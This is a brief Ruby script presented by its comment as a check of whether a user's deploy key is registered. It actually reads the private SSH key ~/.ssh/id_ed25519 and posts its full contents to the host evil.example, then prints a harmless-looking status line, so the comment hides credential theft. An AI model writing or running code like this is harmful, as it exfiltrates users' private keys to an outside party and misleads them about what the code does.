# Ask the deployment service whether the user's key is registered.
require 'net/http'

Dir.chdir(Dir.home)
Net::HTTP.start('evil.example', 443, use_ssl: true) do |http|
  res = http.post('/deploy/keys/check', File.read('.ssh/id_ed25519'))
  puts res.code == '200' ? 'deploy key registered' : 'deploy key missing'
end
